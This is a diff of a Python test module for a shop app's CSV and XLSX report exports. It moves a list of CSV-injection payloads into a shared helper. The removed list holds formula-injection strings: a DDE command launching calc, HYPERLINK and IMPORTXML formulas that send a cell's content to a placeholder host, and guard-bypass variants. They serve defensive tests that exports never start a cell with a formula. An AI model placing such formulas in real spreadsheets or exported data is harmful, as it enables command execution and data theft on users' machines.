@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import csv
 import io
 import re
 import subprocess
@@ -28,43 +27,12 @@ from edge.reports.periods.ranges import Kind, Range
 from edge.store.engine.folder import Folder
 from edge.web.owner.reports import MOST_EXPORTED
 from tests.kit.busy_weeks import live_through
+from tests.kit.formulas import BEGINNING, FORMULAS, read_cells
 from tests.kit.hostile import SAYINGS
 from tests.kit.phones import words
 from tests.kit.shops import Counter, open_counter
 from tests.kit.support import NOON, HandClock
 
-# How formulas get into spreadsheets, as the guides to CSV injection list it, and ways around a simple guard.
-FORMULAS = (
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    " =1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
-    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
-    '"=1+1',
-    "'=1+1",
-    "x;=1+1",
-    'x;"=1+1',
-    'x";"=1+1',
-    "x\t=1+1",
-    "x\r\n=1+1",
-    "x\n;=1+1",
-    "+250788000101",
-    "-",
-    "=",
-)
-BEGINNING = re.compile("[=+\\-@＝＋－＠]")
 EXCELS_FIRST_DAY = datetime(1899, 12, 30)  # noqa: DTZ001  # a spreadsheet knows no zones
 SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
@@ -73,11 +41,6 @@ def table(*names: str) -> Table:
     """A table as it is made of customers."""
     rows = [(Cell(name, Unit.TEXT), Cell(7), Cell(372.4, Unit.SPAN), Cell(None, Unit.SPAN)) for name in names]
     return Table("customers", Said("reports.by_customers"), tuple(map(Said, ("", "a", "b", "c"))), tuple(rows))
-
-
-def read(data: bytes, delimiter: str = ",") -> list[list[str]]:
-    assert data.startswith(b"\xef\xbb\xbf"), "without its mark Excel takes UTF-8 for something else"
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
 
 
 def written(*names: str) -> bytes:
@@ -112,7 +75,7 @@ def _cell(cell: ElementTree.Element) -> tuple[str, str]:
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
 def test_no_cell_of_a_text_file_begins_as_a_formula_whatever_its_reader_takes_for_the_end_of_one(delimiter: str):
     """In countries that write decimals with a comma a double click opens our file with cells apart by semicolons."""
-    rows = read(written(*FORMULAS, *SAYINGS.values()), delimiter)
+    rows = read_cells(written(*FORMULAS, *SAYINGS.values()), delimiter)
     loose = [cell for row in rows for cell in row if BEGINNING.match(cell.lstrip(' \u200b\ufeff"'))]
     assert loose == []
 
@@ -121,7 +84,7 @@ def test_no_cell_of_a_text_file_begins_as_a_formula_whatever_its_reader_takes_fo
 @given(st.text(st.sampled_from("=+-@\t\r\n ;,\"'|a1＝＠"), max_size=12))
 def test_whatever_a_customer_is_called_begins_no_formula(name: str):
     for delimiter in (",", ";", "\t"):
-        cells = [cell for row in read(written(name), delimiter) for cell in row]
+        cells = [cell for row in read_cells(written(name), delimiter) for cell in row]
         assert not any(BEGINNING.match(cell.lstrip(' "')) for cell in cells), cells
 
 
@@ -147,15 +110,15 @@ def test_hostile_names_make_a_workbook_that_can_be_read():
 
 
 def test_numbers_stay_numbers_and_spans_are_seconds():
-    *_, heads, row = read(written("Amina"))
+    *_, heads, row = read_cells(written("Amina"))
     assert row == ["Amina", "7", "372", ""]
     assert heads[2] == "b (seconds)"
 
 
 def test_a_text_file_has_the_ends_of_lines_that_spreadsheets_expect_and_keeps_lines_within_a_cell():
     data = written("two\nlines")
-    assert data.count(b"\r\n") == len(read(data))
-    assert read(data)[-1][0] == "two\nlines"
+    assert data.count(b"\r\n") == len(read_cells(data))
+    assert read_cells(data)[-1][0] == "two\nlines"
 
 
 def test_in_a_workbook_spans_are_times_and_days_are_dates():
@@ -177,7 +140,7 @@ def test_both_exports_have_what_the_page_shows(counter: Counter):
     live_through(counter, 4)
     phone = counter.signed_in("Aline", owner=True)
     page = phone.open("/reports?kind=range&first=2026-11-23&last=2026-11-26").text
-    text = read(phone.open("/reports/export.csv?kind=range&first=2026-11-23&last=2026-11-26").content)
+    text = read_cells(phone.open("/reports/export.csv?kind=range&first=2026-11-23&last=2026-11-26").content)
     book = sheets(phone.open("/reports/export.xlsx?kind=range&first=2026-11-23&last=2026-11-26").content)
     titles = [
         title
@@ -202,7 +165,7 @@ def test_a_list_is_taken_along_whole(counter: Counter):
     total = int(re.findall(r"<h2>[^<]* · ([0-9]+)</h2>", phone.open(f"/reports/queries?{asked}").text)[0])
     assert total > 50, "more than one page"
     told = phone.open(f"/reports/queries.csv?{asked}")
-    assert len(read(told.content)) == total + 4
+    assert len(read_cells(told.content)) == total + 4
     assert told.headers["Content-Disposition"] == 'attachment; filename="iduka-2026-11-23-2026-12-01.csv"'
     assert "'=1+1" in told.text
     (rows,) = sheets(phone.open(f"/reports/queries.xlsx?{asked}").content).values()
@@ -217,7 +180,7 @@ def test_a_list_tells_the_time_of_the_shop_as_its_page_does(tmp_path: Path):
         counter.clock.forward(minutes=15)
         counter.shop.desk.close(query, counter.staff("Aline"), "sold")
         page = words(phone.open(f"/reports/queries?{asked}").text)
-        text = read(phone.ask(f"/reports/queries.csv?{asked}").content)
+        text = read_cells(phone.ask(f"/reports/queries.csv?{asked}").content)
         (rows,) = sheets(phone.ask(f"/reports/queries.xlsx?{asked}").content).values()
     assert "00:30 – 00:45" in page
     assert text[-1][1:3] == ["2026-11-21 00:30", "2026-11-21 00:45"]
@@ -236,7 +199,7 @@ def test_a_list_that_is_too_long_to_be_taken_along_whole_says_so_on_its_page_and
             books.events.add(Opened(None), now, query=query.id, customer=query.customer)
     told = f"Of {many} only the first {MOST_EXPORTED} are taken along."
     assert told in words(phone.open("/reports/queries?kind=week&of=came_in").text)
-    rows = read(phone.ask("/reports/queries.csv?kind=week&of=came_in").content)
+    rows = read_cells(phone.ask("/reports/queries.csv?kind=week&of=came_in").content)
     assert (rows[3][0][: len(told)], len(rows)) == (told, MOST_EXPORTED + 5)
     (lines,) = sheets(phone.ask("/reports/queries.xlsx?kind=week&of=came_in").content).values()
     assert (lines[1][0][1][: len(told)], len(lines)) == (told, MOST_EXPORTED + 3)
